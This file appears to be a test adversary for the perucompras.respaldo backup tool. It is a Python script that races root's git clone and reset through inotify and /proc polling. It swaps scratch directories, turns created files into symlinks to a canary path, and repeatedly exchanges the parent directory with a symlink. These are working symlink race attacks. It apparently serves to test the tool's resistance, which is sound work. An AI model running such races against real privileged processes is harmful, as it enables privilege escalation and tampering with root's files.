# Copyright (c) 2026, perucompras.respaldo contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""An account that may write to the directory where root works, and exchanges what appears there as fast as it can. Run by itself, as that account.

    adversary.py STRATEGY DIRECTORY CANARY PREPARED TARGET

`scratch`   what begins with .respaldo- is renamed away and PREPARED put in its place, when root's `git clone` has ended
`late`      the same, when root's `git reset` has ended
`link`      what is made in scratch that could be exchanged becomes a link to CANARY
`target`    TARGET becomes a link to CANARY as soon as it appears
`parent`    DIRECTORY itself and a link to CANARY are exchanged without end
"""

import ctypes
import os
import struct
import sys
import time

_CREATE, _ATTRIB, _MOVED_TO = 0x100, 0x4, 0x80
PREFIX = ".respaldo-"


class Watch:
    """inotify(7) of one directory."""

    def __init__(self, path, mask):
        library = ctypes.CDLL(None, use_errno=True)
        self.held = library.inotify_init1(0)
        library.inotify_add_watch(self.held, os.fsencode(path), mask)

    def names(self):
        data, at = os.read(self.held, 65536), 0
        while at < len(data):
            _watch, mask, _cookie, length = struct.unpack_from("iIII", data, at)
            yield mask, os.fsdecode(data[at + 16:at + 16 + length].rstrip(b"\0"))
            at += 16 + length


def until_ended(word, seconds):
    """Wait for a process with that word among its arguments to begin and to end. Only those that are new are looked at."""
    end = time.monotonic() + seconds
    known, seen = set(os.listdir("/proc")), ""
    while time.monotonic() < end:
        now = set(os.listdir("/proc"))
        if seen and not os.path.exists("/proc/{0}/exe".format(seen)) and _arguments(seen) == b"":
            return
        for number in now - known:
            if number.isdigit() and not seen:
                said = _arguments(number)
                if word in said.split(b"\0"):
                    seen = number
                elif said.startswith((b"/usr/bin/git\0", b"git\0")):
                    known.add(number)
        known &= now


def _arguments(number):
    try:
        with open("/proc/{0}/cmdline".format(number), "rb") as file:
            return file.read()
    except OSError:
        return b""


def swap(directory, name, prepared):
    """Another directory in the place of root's."""
    try:
        os.rename(os.path.join(directory, name), os.path.join(directory, "away-" + name))
        os.rename(prepared, os.path.join(directory, name))
        return True
    except OSError:
        return False


def scratch(directory, canary, prepared, word):
    watch = Watch(directory, _CREATE)
    while True:
        mask, name = next(watch.names())
        if name.startswith(PREFIX) and mask & _CREATE:
            until_ended(word, 5)
            swap(directory, name, prepared)
            return


def link(directory, canary):
    """Scratch is replaced by one of his own; what root makes in it becomes a link as soon as its mode is set."""
    above = Watch(directory, _CREATE)
    for _mask, name in above.names():
        if not name.startswith(PREFIX):
            continue
        mine = os.path.join(directory, "mine")
        os.makedirs(mine, exist_ok=True)
        inner = Watch(mine, _CREATE | _ATTRIB)
        swap(directory, name, mine)
        here = os.path.join(directory, name)
        while True:
            for mask, made in inner.names():
                if mask & _ATTRIB and made:
                    try:
                        os.symlink(canary, os.path.join(here, "link"))
                        os.rename(os.path.join(here, "link"), os.path.join(here, made))
                    except OSError:
                        pass


def target(directory, canary, wanted):
    while True:
        try:
            os.rename(wanted, wanted + ".his")
            os.symlink(canary, wanted)
            return
        except OSError:
            pass


def parent(directory, canary):
    while True:
        try:
            os.rename(directory, directory + ".real")
            os.symlink(canary, directory)
            time.sleep(0.0005)
            os.unlink(directory)
            os.rename(directory + ".real", directory)
            time.sleep(0.0005)
        except OSError:
            pass


if __name__ == "__main__":
    strategy, folder, prize, ready, goal = sys.argv[1:6]
    print("ready", flush=True)
    if strategy in ("scratch", "late"):
        scratch(folder, prize, ready, b"clone" if strategy == "scratch" else b"reset")
    elif strategy == "link":
        link(folder, prize)
    elif strategy == "target":
        target(folder, prize, goal)
    else:
        parent(folder, prize)
